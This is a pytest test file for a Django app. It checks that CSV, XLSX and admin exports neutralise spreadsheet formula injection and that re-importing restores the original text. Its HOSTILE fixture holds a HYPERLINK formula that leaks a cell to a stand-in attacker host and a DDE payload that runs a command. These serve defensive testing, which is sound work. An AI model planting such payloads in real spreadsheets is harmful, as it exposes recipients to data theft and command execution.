"""No export writes a live formula, and importing an export gives back the original text."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.urls import reverse
from import_export.admin import ExportMixin

from agreements.models import Agreement
from agreements.resources import export_agreements
from units.formulas import SAFE_FORMATS, guard, unguard
from units.models import Organization
from units.resources import OrganizationResource, run_import

from .test_import_agreements import do_import

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "number": "+1+1",
    "summary": "-2+3+cmd|' /C calc'!A0",
}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def planted(make_agreement):
    return make_agreement(**HOSTILE)


def xlsx_cells(content: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+1", "-1", "@SUM(1,1)", "\t=1", "\r=1", "'=1", "''+1", "plain", "'quoted", ""],
)
def test_guard_then_unguard_gives_back_the_text(text):
    guarded = guard(text)
    assert not guarded.startswith(FORMULA_STARTS)
    assert unguard(guarded) == text


@pytest.mark.django_db
def test_the_xlsx_export_writes_formula_like_text_as_text(planted):
    content, _type, _name = export_agreements(Agreement.objects.all(), "xlsx")

    cells = xlsx_cells(content)
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    assert "'" + HOSTILE["title"] in values
    assert "'+1+1" in values


@pytest.mark.django_db
def test_the_csv_export_starts_no_cell_with_a_formula_character(planted):
    content, _type, _name = export_agreements(Agreement.objects.all(), "csv")

    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert "'" + HOSTILE["summary"] in rows[1]


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_importing_an_export_restores_the_text_and_changes_nothing(planted, users, fmt):
    content, _type, _name = export_agreements(Agreement.objects.all(), fmt)

    outcome = do_import(content, users.hue_clerk)

    assert outcome.ok, outcome.problems
    assert outcome.unchanged == 1 and outcome.created == 0
    planted.refresh_from_db()
    assert (planted.title, planted.number, planted.summary) == (
        HOSTILE["title"],
        HOSTILE["number"],
        HOSTILE["summary"],
    )


@pytest.mark.django_db
def test_an_organization_named_like_a_formula_survives_a_round_trip(orgs, users):
    orgs.post_a.name = "@SUM(1,1)"
    orgs.post_a.save()
    dataset = OrganizationResource().export(Organization.objects.all())
    content = SAFE_FORMATS[1]().export_data(dataset).encode()
    assert "'@SUM(1,1)" in content.decode()

    outcome = run_import(OrganizationResource(), content, user=users.admin, dry_run=False)

    assert outcome.ok, outcome.problems
    assert outcome.unchanged == outcome.total
    orgs.post_a.refresh_from_db()
    assert orgs.post_a.name == "@SUM(1,1)"


@pytest.mark.django_db
@pytest.mark.parametrize("fmt_index", [0, 1])
def test_the_admin_export_neutralises_formulas_too(admin_client, planted, fmt_index):
    response = admin_client.post(
        reverse("admin:agreements_agreement_export"),
        {"format": str(fmt_index), "resource": "0", **_all_fields(admin_client)},
    )

    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment"), response.context["form"].errors
    if fmt_index == 0:
        assert not [c for c in xlsx_cells(response.content) if c.data_type == "f"]
        assert "'" + HOSTILE["title"] in {c.value for c in xlsx_cells(response.content)}
    else:
        text = response.content.decode("utf-8-sig")
        assert "'" + HOSTILE["title"].replace('"', '""') in text


def _all_fields(client) -> dict:
    form = client.get(reverse("admin:agreements_agreement_export")).context["form"]
    return {
        name: "on" for name in form.fields if name not in ("format", "resource", "export_items")
    }


def test_every_admin_export_goes_through_the_neutralising_formats():
    exporting = [
        model_admin
        for model_admin in admin.site._registry.values()
        if isinstance(model_admin, ExportMixin)
    ]
    assert exporting
    for model_admin in exporting:
        assert model_admin.get_export_formats() == SAFE_FORMATS, type(model_admin).__name__
